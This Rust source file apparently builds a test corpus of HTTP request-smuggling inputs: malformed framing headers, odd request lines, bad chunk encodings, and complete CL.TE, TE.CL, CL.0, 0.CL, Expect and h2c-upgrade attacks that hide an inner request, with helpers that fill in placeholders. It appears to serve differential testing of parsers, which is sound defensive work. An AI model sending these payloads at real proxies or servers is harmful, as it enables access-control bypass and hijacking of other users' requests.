//! Known ways to make two parsers disagree, one entry each; `{M}` stands for the connection's mark.

/// What most of them try to get past the proxy.
const INNER: &str = "GET /inner/{M} HTTP/1.1\r\nhost: inner.example\r\nx-mark: {M}\r\n\r\n";

/// Field lines that speak about framing, each on the edge of what is allowed or beyond it.
pub const LINES: &[&str] = &[
    "Content-Length: 5",
    "Content-Length: 0",
    "Content-Length: 05",
    "Content-Length: +5",
    "Content-Length: -0",
    "Content-Length: 5,5",
    "Content-Length: 5, 6",
    "Content-Length: 0x5",
    "Content-Length: 1_0",
    "Content-Length: 5 5",
    "Content-Length: ",
    "Content-Length:5",
    "Content-Length : 5",
    "Content-Length\t: 5",
    "Content-Length: 9223372036854775807",
    "Content-Length: 9223372036854775808",
    "Content-Length: 18446744073709551621",
    "content-length: 5\r\nCONTENT-LENGTH: 5",
    "Content-Length: 5\r\nContent-Length: 6",
    "Content_Length: 5",
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding:  chunked",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: chunked\x0c",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding:\n chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: chunked;a=b",
    "Transfer-Encoding: CHUNKED",
    "Transfer_Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\0Transfer-Encoding: chunked",
    " Transfer-Encoding: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "Expect: 100-continue",
    "Expect: 100-Continue, x",
    "Expect: y 100-continue",
    "Expect:",
    "Connection: close",
    "Connection: keep-alive",
    "Connection: content-length",
    "Connection: transfer-encoding, host",
    "Connection: x-forwarded-for, x-request-id",
    "Connection: upgrade\r\nUpgrade: websocket",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAA",
    "Upgrade: h2c",
    "Keep-Alive: timeout=1",
    "TE: trailers",
    "TE: chunked",
    "Trailer: content-length",
    "Host: other.example",
    "Host: a.example",
    "X-Request-Id: chosen",
    "X-Forwarded-For: 6.6.6.6",
    "X: a\r\n b",
    "X: a\r\n\tb",
    "X\0: a",
    "X: a\0b",
    "X : a",
    ": a",
    "no colon",
];

/// Targets, hosts and versions.
const STARTS: &[&str] = &[
    "GET /a/{M} HTTP/1.1\r\nHost: a.example",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example",
    "POST /early/{M} HTTP/1.1\r\nHost: a.example",
    "GET http://a.example/a/{M} HTTP/1.1\r\nHost: a.example",
    "GET http://b.example/a/{M} HTTP/1.1\r\nHost: a.example",
    "GET //b.example/a/{M} HTTP/1.1\r\nHost: a.example",
    "GET /a/{M}?q=/../x#f HTTP/1.1\r\nHost: a.example",
    "GET /a/{M}/..%2f..%2fx HTTP/1.1\r\nHost: a.example",
    "GET /a/{M}/%2e%2e/x HTTP/1.1\r\nHost: a.example",
    "GET /a/{M} HTTP/1.0\r\nHost: a.example",
    "POST /a/{M} HTTP/1.0\r\nHost: a.example\r\nConnection: keep-alive",
    "HEAD /a/{M} HTTP/1.1\r\nHost: a.example",
    "OPTIONS * HTTP/1.1\r\nHost: a.example",
    "CONNECT a.example:80 HTTP/1.1\r\nHost: a.example:80",
    "TRACE /a/{M} HTTP/1.1\r\nHost: a.example",
    "GET /a/{M} HTTP/1.1\nHost: a.example",
    "GET /a/{M} HTTP/1.1\rHost: a.example",
    "GET  /a/{M} HTTP/1.1\r\nHost: a.example",
    "GET /a/{M} x HTTP/1.1\r\nHost: a.example",
    "GET /a/{M}\r\nHost: a.example",
    "GET /a/{M} HTTP/1.2\r\nHost: a.example",
    "GET /a/{M} HTTP/2.0\r\nHost: a.example",
    "\r\nGET /a/{M} HTTP/1.1\r\nHost: a.example",
    "\r\n\r\nGET /a/{M} HTTP/1.1\r\nHost: a.example",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example, b.example",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example@b.example",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example:0",
    "GET /a/{M} HTTP/1.1\r\nX-First: b\r\nHost: a.example",
    "GET /tunnel/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: upgrade\r\nUpgrade: websocket",
    "POST /deny/{M} HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue",
];

/// Bodies as their framing would have them, and as it would not.
const BODIES: &[&str] = &[
    "",
    "hello",
    "0\r\n\r\n",
    "5\r\nhello\r\n0\r\n\r\n",
    "5;a=b\r\nhello\r\n0\r\n\r\n",
    "5;a\nb\r\nhello\r\n0\r\n\r\n",
    "5;\r\nhello\r\n0\r\n\r\n",
    "5 ;a\r\nhello\r\n0\r\n\r\n",
    "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n",
    "5\nhello\r\n0\r\n\r\n",
    "5\rXhello\r\n0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "5\r\nhello\n0\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    "05\r\nhello\r\n00\r\n\r\n",
    "0000000000000000005\r\nhello\r\n0\r\n\r\n",
    "fffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello\r\n0\r\nX-Trailer: y\r\n\r\n",
    "5\r\nhello\r\n0\r\nContent-Length: 9\r\nHost: inner.example\r\n\r\n",
    "5\r\nhello\r\n0\r\n X: y\r\n\r\n",
    "5\r\nhello\r\n0\r\nX: y\n\r\n",
    "5\r\nhello\r\n0\r\n\n",
    "5\r\nhello\r\n0\n\n",
    "5\r\nhello\r\n\r\n0\r\n\r\n",
    "2\r\nhello\r\n0\r\n\r\n",
];

/// Whole attacks that are more than a line in a head.
const WHOLE: &[&str] = &[
    // CL.TE and TE.CL, with the lengths that make each of them work.
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n\
     5c\r\n{I}\r\n0\r\n\r\n",
    // CL.0: the inner request is a body.
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "HEAD /a/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "OPTIONS * HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "POST /early/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "POST /early/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n{I}",
    // 0.CL: a length that one of the two does not see, then a second request that hides a third.
    "POST /early/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length : {L}\r\n\r\n{I}",
    "POST /early/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length:\n {L}\r\n\r\n{I}",
    "GET /early/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: 40\r\n\r\n\
     GET /x/{M} HTTP/1.1\r\nX: GET /y HTTP/1.1\r\nHost: a.example\r\n\r\n",
    // Expect: an answer before the body.
    "POST /deny/{M} HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: {L}\r\n\r\n{I}",
    "GET /deny/{M} HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: {L}\r\n\r\n{I}",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n\
     0\r\n\r\n{I}",
    // Upgrade before anybody agreed to it.
    "GET /a/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n{I}",
    "GET /tunnel/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n{I}",
    "POST /tunnel/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\
     Content-Length: {L}\r\n\r\n{I}",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n\
     HTTP2-Settings: AAMAAABkAARAAAAA\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{I}",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
    // Pipelines, the second request with trouble of its own.
    "GET /1/{M} HTTP/1.1\r\nHost: a.example\r\n\r\n{I}",
    "POST /1/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n{I}",
    "POST /1/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n\
     POST /2/{M} HTTP/1.1\r\nHost: a.example\r\nContent-Length: {L}\r\n\r\n{I}",
    "HEAD /1/{M} HTTP/1.1\r\nHost: a.example\r\n\r\n{I}{I}{I}",
    "GET /1/{M} HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n{I}",
    "GET /1/{M} HTTP/1.0\r\nHost: a.example\r\n\r\n{I}",
    // Chunks: a size that overflows, one that lies, one that hides a request.
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n\
     10000000000000000\r\n{I}\r\n0\r\n\r\n",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n\
     1;\n{I}\r\n0\r\n\r\n",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n\
     1\r\nZ\r\n0;x=\"{I}\"\r\n\r\n",
    "POST /early/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n\
     ffff\r\n{I}",
    "POST /a/{M} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n\
     0\r\nGET /t/{M} HTTP/1.1\r\nHost: a.example\r\n\r\n",
    // A head that another one is wrapped into.
    "GET /a/{M} HTTP/1.1\r\nHost: a.example\r\nX: {I}",
    "GET /a/{M}?x={I} HTTP/1.1\r\nHost: a.example\r\n\r\n",
    "GET /a/{M} HTTP/1.1\r\nHost: a.example\r\nCookie: a=b\r\n\r\n\r\n\r\n{I}",
];

/// The whole corpus, still with its placeholders.
pub fn corpus() -> Vec<String> {
    let with_line = |line: &&str| format!("POST /a/{{M}} HTTP/1.1\r\nHost: a.example\r\n{line}\r\n\r\nhello");
    let beside_chunked = |line: &&str| {
        format!(
            "POST /a/{{M}} HTTP/1.1\r\nHost: a.example\r\n{line}\r\nTransfer-Encoding: chunked\r\n\r\n\
             5\r\nhello\r\n0\r\n\r\n{{I}}"
        )
    };
    let start = |start: &&str| format!("{start}\r\n\r\n{{I}}");
    let chunks = |body: &&str| {
        format!("POST /a/{{M}} HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n{body}{{I}}")
    };
    let mut all: Vec<String> = WHOLE.iter().map(|attack| (*attack).to_owned()).collect();
    all.extend(LINES.iter().map(with_line));
    all.extend(LINES.iter().map(beside_chunked));
    all.extend(STARTS.iter().map(start));
    all.extend(BODIES.iter().map(chunks));
    all
}

/// An entry with its placeholders filled in.
pub fn fill(attack: &str, mark: &str) -> String {
    let inner = INNER.replace("{M}", mark);
    attack.replace("{L}", &inner.len().to_string()).replace("{I}", &inner).replace("{M}", mark)
}
